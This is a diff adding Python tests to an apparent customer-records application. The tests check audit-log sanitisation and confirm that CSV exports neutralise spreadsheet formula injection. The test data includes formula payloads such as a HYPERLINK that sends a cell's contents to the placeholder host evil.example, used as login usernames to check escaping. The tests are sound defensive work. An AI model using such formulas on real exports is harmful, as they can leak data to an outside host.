@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import itertools
 from datetime import date
 from pathlib import Path
@@ -20,6 +22,7 @@ from custinfo.audit.models import AuditEntry
 from custinfo.auth.models import User
 from custinfo.cli.main import app as cli
 from custinfo.core.db import make_session_factory
+from custinfo.core.spreadsheet import safe_cell
 from custinfo.core.uow import Actor, record, unit_of_work
 from custinfo.customers.identifiers import make_id_number
 from custinfo.protection.events import SensitiveFieldRead
@@ -203,3 +206,82 @@ def test_auditor_page_lists_and_filters(client: TestClient, session: Session, wo
     client.cookies.clear()
     assert sign_in(client, "sales_east1").status_code == 303
     assert client.get("/audit").status_code == 403
+
+
+NASTY_DETAILS = {
+    "nul": "a\x00b",
+    "surrogate": "x\ud800y",
+    "lines": "line one\nline two\ttabbed\r",
+    "long": "长" * 5000,
+    "nan": float("nan"),
+    "inf": float("-inf"),
+    "huge": 2**70,
+    "deep": {"a": {"b": {"c": {"d": {"e": {"f": {"g": "h"}}}}}}},
+    "many": list(range(1000)),
+    "tuple": (1, "2"),
+    "when": date(2026, 1, 2),
+    7: "a key that is not text",
+}
+
+
+def test_audit_values_are_stored_exactly_as_sealed(session: Session) -> None:
+    head = chain.append(
+        session,
+        actor="\t" * 60 + "mallory" + " " * 70,
+        role="r" * 100,
+        action="login.failed",
+        target_type="user",
+        target_id="id\x00" + " " * 200,  # PostgreSQL would silently cut trailing spaces of a too long value
+        customer_id=2**70,
+        details=NASTY_DETAILS,
+        address="::ffff:" + "9" * 100,
+    )
+    session.flush()
+    session.expire_all()
+    entry = session.get(AuditEntry, head.seq)
+    assert entry is not None
+    assert len(entry.actor) == 64 and entry.actor.endswith("…") and "\t" not in entry.actor
+    assert len(entry.role or "") == 20 and len(entry.target_id or "") == 64 and len(entry.address or "") == 64
+    assert "\x00" not in (entry.target_id or "") and entry.customer_id is None
+    details = entry.details
+    assert details["nul"] == "a\ufffdb" and details["surrogate"] == "x\ufffdy"
+    assert details["lines"] == NASTY_DETAILS["lines"]  # line breaks in details are kept
+    assert len(details["long"]) == chain.TEXT_IN_DETAILS and details["nan"] == "nan"
+    assert details["huge"] == str(2**70) and len(details["many"]) == chain.ITEMS_IN_DETAILS
+    assert details["tuple"] == [1, "2"] and details["when"] == "2026-01-02" and details["7"]
+    assert chain.verify(session.connection()).ok
+    fields = {name: getattr(entry, name) for name in chain.HASHED}
+    assert chain.entry_mac(fields, entry.prev_hash) == entry.hash == head.mac
+
+
+def test_oversized_details_are_replaced_by_a_note(session: Session) -> None:
+    head = chain.append(
+        session, actor="x", role=None, action="export", details={f"k{i}": "v" * 900 for i in range(150)}
+    )
+    entry = session.get(AuditEntry, head.seq)
+    assert entry is not None and entry.details["omitted"].startswith("details longer than")
+    assert chain.verify(session.connection()).ok
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_safe_cell_neutralises_every_formula_prefix(prefix: str) -> None:
+    assert safe_cell(f'{prefix}HYPERLINK("http://evil")') == f'\'{prefix}HYPERLINK("http://evil")'
+
+
+def test_safe_cell_leaves_other_values_alone() -> None:
+    assert [safe_cell(v) for v in ("张三", "a=b", "", 42, None, -1)] == ["张三", "a=b", "", 42, None, -1]
+
+
+def test_audit_csv_cells_never_start_a_formula(client: TestClient, login, world) -> None:  # type: ignore[no-untyped-def]
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert _token_attempt(client, payload).status_code == 401
+    assert _token_attempt(client, "@SUM(1+1)").status_code == 401
+    response = client.get("/api/v1/audit/export.csv", params={"action": "login"}, headers=login("admin"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + payload in cells and "'@SUM(1+1)" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+def _token_attempt(client: TestClient, username: str):  # type: ignore[no-untyped-def]
+    return client.post("/api/v1/auth/token", data={"username": username, "password": "wrong-password-1"})
